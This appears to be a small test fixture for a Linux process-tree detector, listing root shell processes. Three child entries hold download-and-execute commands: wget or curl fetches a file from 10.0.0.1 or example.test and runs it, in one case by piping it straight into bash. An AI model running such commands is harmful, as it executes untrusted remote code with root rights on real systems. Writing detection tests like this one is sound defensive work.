os linux
101 1 root - /usr/bin/bash | /usr/bin/bash
+ 102 101 root sh /usr/bin/dash | sh -c wget http://10.0.0.1/a -O /tmp/a; chmod +x /tmp/a; /tmp/a
+ 103 101 root - /usr/bin/bash | bash -c curl -s 10.0.0.1/x.sh | bash
+ 104 101 root - /usr/bin/bash | bash -c cd /tmp && curl -O http://example.test/a && chmod 777 a && ./a
